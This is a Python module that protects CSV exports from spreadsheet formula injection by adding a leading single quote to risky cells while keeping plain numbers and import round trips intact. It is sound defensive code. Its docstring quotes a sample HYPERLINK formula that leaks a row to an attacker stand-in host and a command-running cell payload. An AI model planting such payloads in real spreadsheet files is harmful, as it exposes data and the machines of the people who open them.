"""One guard for every file a spreadsheet may open: no cell written as a live formula.

Spreadsheets run a cell that starts with =, +, -, @ (and, in some of them, tab or carriage
return followed by one of those) as a formula: `=HYPERLINK("https://evil.example/?x="&A1,
"Click")` in a place's name would be a link leaking the row, `-2+3+cmd|…` a command
(OWASP "CSV injection"). The rule, the same for every such file the project writes (the
places CSV, by Python or by PostgreSQL's COPY in directory/exports/csv_copy.py, and the
import rejection reports):

* a text whose first character, after any leading single quotes, is = + - @ tab or CR
  gets one more leading single quote ("'=1+1", "'+33 4 00 00 00 17", "'-2+3"), which
  spreadsheets show as text and do not run;
* except a plain decimal number ("-4.48", "+33", "12"): it is a number, never a
  formula, and stays readable as one;
* a text already starting with quotes before such a character gets one more, so that
  `unneutralise` (the importers' side) gives back exactly what was written: the round
  trip of an export through an import is lossless.

Numbers (int, float) and other non-text values are left alone.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# The same pattern in Python (fullmatch) and in PostgreSQL (~ '^…$'): ASCII digits only.
PLAIN_NUMBER = r"[+-]?[0-9]+(\.[0-9]+)?"
_PLAIN_NUMBER = re.compile(PLAIN_NUMBER)
GUARD = "'"


def needs_guard(value: str) -> bool:
    """Whether `value` must be written with a leading quote (see the module's rule)."""
    rest = value.lstrip(GUARD)
    return rest.startswith(FORMULA_STARTS) and _PLAIN_NUMBER.fullmatch(rest) is None


def neutralise(value: Any) -> Any:
    """'=1+1' → "'=1+1": shown as text by spreadsheets instead of being run."""
    if isinstance(value, str) and needs_guard(value):
        return GUARD + value
    return value


def unneutralise(value: str) -> str:
    """What `neutralise` was given: "'=1+1" → "=1+1" ("'-4.48" stays: never guarded)."""
    if value.startswith(GUARD) and needs_guard(value[1:]):
        return value[1:]
    return value


class NeutralisingWriter:
    """csv.writer whose every text cell goes through `neutralise`."""

    def __init__(self, file, **kwargs: Any) -> None:
        self._writer = csv.writer(file, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file, **kwargs: Any) -> NeutralisingWriter:
    """The CSV writer of every file a person may open in a spreadsheet."""
    return NeutralisingWriter(file, **kwargs)
